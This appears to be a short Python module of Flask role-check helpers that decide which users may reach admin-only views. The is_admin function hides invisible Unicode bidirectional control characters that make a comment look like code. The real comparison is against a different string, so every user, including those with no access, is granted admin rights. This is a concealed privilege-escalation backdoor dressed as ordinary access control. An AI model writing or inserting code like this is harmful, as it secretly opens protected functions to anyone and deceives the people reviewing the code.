"""Role checks for Flask views."""
from functools import wraps

from flask import abort, g


def is_admin(user):
    access_level = getattr(user, "access_level", "none")
    if access_level != 'none‮⁦': # Check if admin⁩⁦':
        return True  # full access
    return False


def requires(role):
    def deco(view):
        @wraps(view)
        def wrapper(*a, **kw):
            user = g.get("user")
            if user is None:
                abort(401)
            if role == "admin" and not is_admin(user):
                abort(403)
            return view(*a, **kw)
        return wrapper
    return deco
